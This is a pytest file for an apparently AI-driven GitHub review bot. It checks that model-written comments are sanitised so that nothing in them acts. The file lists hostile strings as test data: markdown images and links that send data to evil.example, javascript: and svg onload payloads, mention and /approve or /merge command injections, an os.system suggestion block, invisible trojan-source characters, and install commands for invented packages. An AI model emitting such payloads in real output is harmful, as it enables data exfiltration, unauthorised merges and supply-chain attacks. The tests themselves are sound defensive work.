"""Rows 10, 12, 13, 14, 15, 17: what stands on GitHub can be read, and does nothing else."""

from __future__ import annotations

import json
import unicodedata

import pytest

from app.intake.router import route
from review.findings import sanitise as sanitise_module
from review.findings.invisible import escape_invisible
from review.report import render
from tests.app.work.bot import REVIEW, Bot, scripted
from tests.attacks.evidence import annotated, bodies, posted
from tests.attacks.planted import answer, claim
from tests.review.findings.test_sanitise import what_acts
from tests.stand_in.commits import Content
from tests.stand_in.repository import PullRequest

EXFILTRATION = (
    "![i](https://evil.example/p.png?d=SECRET)", "![i][r]\n\n[r]: https://evil.example/p.png",
    "<img src=https://evil.example/p>", '<picture><source srcset="https://evil.example/p"></picture>',
    "[click](https://evil.example/?d=SECRET)", "<https://evil.example>", "https://evil.example/x", "www.evil.example",
    "mail@evil.example", "[a]: https://evil.example", "[t](javascript:alert(1))", "&lt;img src=x&gt;",
    "\\![i](https://evil.example)", "[![a](https://evil.example)](https://x.example)", "<svg onload=alert(1)>",
    "<details open><summary>x</summary>y</details>", "<!-- hidden -->", "$\\href{https://evil.example}{x}$",
)  # fmt: skip
MENTIONS = (
    "@octocat", "&#64;octocat", "&#x40;octocat", "&commat;octocat", "\\@octocat", "@octo/security", "**@octocat**",
    "#1", "GH-1", "octo/shop#1", "closes #1", "Fixes octo/shop#1", "resolves https://github.com/octo/shop/issues/1",
    "1234567890abcdef1234567890abcdef12345678", "deadbeef", "&#35;1", "@\u200boctocat", "`@a` @octocat",
    "```\nx\n```\n@octocat",
)  # fmt: skip
COMMANDS = (
    "/approve", "/merge", "/lgtm\n/approve", "@diffdiver review", "@dependabot merge", "\n/close", "- /approve",
    "> /approve", "```\n/approve\n```", "    /approve", "&#47;approve", "\\/approve", "1. /approve",
    "bors r+\n@bors r+",
)  # fmt: skip
SUGGESTIONS = (
    "```suggestion\nimport os; os.system('x')\n```", "~~~suggestion\nx\n~~~", "````suggestion\n```\nx\n```\n````",
    "```suggestion:-0+1\nx\n```", "``` suggestion\nx\n```", "   ```suggestion\nx", "> ```suggestion\n> x\n> ```",
    "- ```suggestion\n  x\n  ```", "```python\n```\n```suggestion\nx\n```", "```\nx\n````suggestion\ny\n````",
    "```mermaid\ngraph\n```", "`````\n```suggestion\nx\n```", "```Suggestion\nx\n```",
    "&#96;&#96;&#96;suggestion\nx\n&#96;&#96;&#96;",
)  # fmt: skip
HOSTILE = (*EXFILTRATION, *MENTIONS, *COMMANDS, *SUGGESTIONS)
LINES = tuple(f"plain text number {number} that is added" for number in range(1, 13))
TEXT: dict[str, Content] = {"notes.txt": "".join(f"{line}\n" for line in LINES)}


def hostile_claims(texts: tuple[str, ...] = HOSTILE) -> list[dict[str, object]]:
    """Spread texts over every field of ten claims whose evidence holds."""
    claims = []
    for number in range(10):
        mine = texts[number::10]
        whole = "It fails at run time.\n\n" + "\n\n".join(mine)
        claims.append(claim(
            "notes.txt", number + 1, LINES[number], title=f"Breaks {' '.join(mine)}", message=whole,
            why=" and ".join(mine), suggestion="\n".join(mine), category="correctness",
        ))  # fmt: skip
    return claims


async def reviewed(bot: Bot, text: str, files: dict[str, Content] = TEXT) -> PullRequest:
    bot.providers = [scripted(lambda _: text)]
    pull = bot.open(files)
    await bot.review(pull)
    assert bot.conclusions(pull)[REVIEW] == "neutral", "control: the claims were believed"
    return pull


@pytest.mark.slow
async def test_nothing_that_a_model_writes_acts_on_github(bot: Bot) -> None:
    """Rows 10, 13, 14, 15: images, links, HTML, mentions, references, commands, suggestions, as stored on GitHub."""
    pull = await reviewed(bot, answer(*hostile_claims()))
    texts = bodies(bot, pull)
    assert len(bot.github.comments(pull)) == 5
    assert sum(text.count("Possible fix") for text in texts) >= 10, "control: all ten stand there, in full"
    for text in texts:
        assert what_acts(text) == set(), text


@pytest.mark.slow
async def test_control_unsanitised_the_same_answer_would_act(bot: Bot, monkeypatch: pytest.MonkeyPatch) -> None:
    def raw(text: str, limit: int = 0) -> str:
        return text

    monkeypatch.setattr(render, "sanitise", raw)
    monkeypatch.setattr(render, "sanitise_line", raw)
    monkeypatch.setattr(render, "code_block", raw)
    monkeypatch.setattr(sanitise_module, "escape_invisible", raw)
    pull = await reviewed(bot, answer(*hostile_claims()))
    seen = set().union(*(what_acts(text) for text in bodies(bot, pull)))
    assert {"image", "link_open", "mention", "suggestion", "command"} <= seen


@pytest.mark.slow
async def test_what_the_bot_says_starts_no_job_of_its_own(bot: Bot) -> None:
    """Row 15: each posted text fed back as a comment, a hundred times round, wants nothing; nor do our own events."""
    pull = await reviewed(bot, answer(*hostile_claims()))
    said = bodies(bot, pull)
    bot_user = {"login": "diffdiver[bot]", "type": "Bot", "id": bot.app.bot.id}
    events = {
        "issue_comment": "created", "pull_request_review_comment": "created", "pull_request_review": "submitted",
        "check_run": "completed", "check_suite": "completed", "commit_comment": "created",
    }  # fmt: skip
    for turn in range(100):
        text = said[turn % len(said)]
        for event, action in events.items():
            document = {
                "action": action,
                "installation": {"id": bot.installation.id},
                "repository": {"id": bot.repository.id, "full_name": "octo/shop"},
                "issue": {"number": pull.number, "pull_request": {}},
                "comment": {"body": text, "user": bot_user},
                "review": {"body": text, "user": bot_user},
                "sender": bot_user,
            }
            _, intent = route(f"{event}-{turn}", event, json.dumps(document).encode(), document)
            assert intent.jobs == (), (event, text)


# anti-trojan-source's idea of what confuses: bidirectional, invisible, tag, selector, private use, separators.
SCALARS = sorted(
    {chr(point) for point in (*range(0x80, 0xA0), *range(0xE000, 0xE010), *range(0xFE00, 0xFE10), 0x34F, 0x180B)}
    | {chr(point) for point in (*range(0xE0000, 0xE0080), *range(0xE0100, 0xE0140), 0x1160, 0x3164, 0xFFA0)}
    | {chr(point) for point in range(0x80, 0x1FFFF) if unicodedata.category(chr(point)) in {"Cf", "Zl", "Zp"}}
)  # fmt: skip


@pytest.mark.slow
async def test_invisible_characters_never_come_out_raw(bot: Bot) -> None:
    """Row 12: some three hundred scalars, in code, path, title and a model's words: escaped wherever they stand."""
    assert len(SCALARS) >= 285
    marked = [f"left{char}right" for char in SCALARS]
    files: dict[str, Content] = {"code.txt": "".join(f"{text}\n" for text in marked), **TEXT}
    for start in range(0, len(SCALARS), 40):
        name = "".join(SCALARS[start : start + 40])
        files[f"dir/{start}{name}.txt".replace("\x85", "")] = "x\n"
    said = [
        claim("notes.txt", n + 1, LINES[n], title=f"Fails {''.join(SCALARS[n::10])}", message="\n".join(marked[n::10]))
        for n in range(10)
    ]
    bot.providers = [scripted(lambda _: answer(*said))]
    main = bot.github.sha(bot.repository, "main")
    bot.github.commit(bot.repository, "topic", files, parent=main)
    pull = bot.github.open_pull_request(
        bot.repository, title="A change" + "".join(SCALARS[:100]), body="".join(SCALARS)
    )
    await bot.review(pull)
    asked = "".join(question.user for question in bot.providers[0].questions)
    for text in (posted(bot, pull), asked):
        raw = set(text) & set(SCALARS)
        assert {f"{ord(char):x}" for char in raw} == set()
    assert escape_invisible("\u202e") in posted(bot, pull), "control: they are said, written out"
    assert {"code.txt", ".github"} <= annotated(bot, pull)
    assert bot.conclusions(pull)["diffdiver/security"] == "failure"


INVENTED = tuple(f"shop-{word}-guard" for word in (
    "secure", "sql", "safe", "async", "http", "json", "yaml", "auth", "csrf", "html", "xml", "path", "url", "jwt",
    "log", "env", "cache", "queue", "redis", "mongo", "flask", "fast", "type", "form", "file", "image", "mail", "text",
    "time", "zip",
))  # fmt: skip
WAYS = (
    "Run `pip install {}` to fix it.", "pip3 install --user {}", "python -m pip install -U {}", "uv add {}",
    "poetry add {}", "npm install --save {}", "npm i {}", "yarn add {}", "pnpm add {}", "npx {}",
    "go get github.com/{}/x", "cargo add {}", "gem install {}", "composer require {}/x", "brew install {}",
    "apt-get install -y {}", "conda install {}", "pipx install {}", "dotnet add package {}", "bun add {}",
    "Use the `{}` package instead.", "The library {} does this.", "the npm module `{}`",
    "Switch to `{}`, a hardened library.", "add `{}` to your requirements.txt",
    "There is a package called `{}` for it.", "import the crate `{}`", "use the gem `{}`", "depend on `{}`",
    "```sh\npip install {}\n```",
)  # fmt: skip


async def test_a_package_that_the_change_does_not_name_is_not_recommended(bot: Bot) -> None:
    """Row 17: thirty invented names, each in another turn of phrase, in words and in suggestions."""
    assert len(INVENTED) == len(WAYS) == 30
    said = [way.format(name) for way, name in zip(WAYS, INVENTED, strict=True)]
    claims = [
        claim("notes.txt", n + 1, LINES[n], title=f"Divides by zero. {said[n]}",
              message="It fails for an empty list.\n\n" + "\n\n".join(said[n::10]),
              suggestion=f"import {INVENTED[n].replace('-', '_')}\n{said[n + 10]}\nx = require('{INVENTED[n + 20]}')")
        for n in range(10)
    ]  # fmt: skip
    pull = await reviewed(bot, answer(*claims))
    text = posted(bot, pull)
    assert "It fails for an empty list." in text
    assert [name for name in INVENTED if name in text or name.replace("-", "_") in text] == []
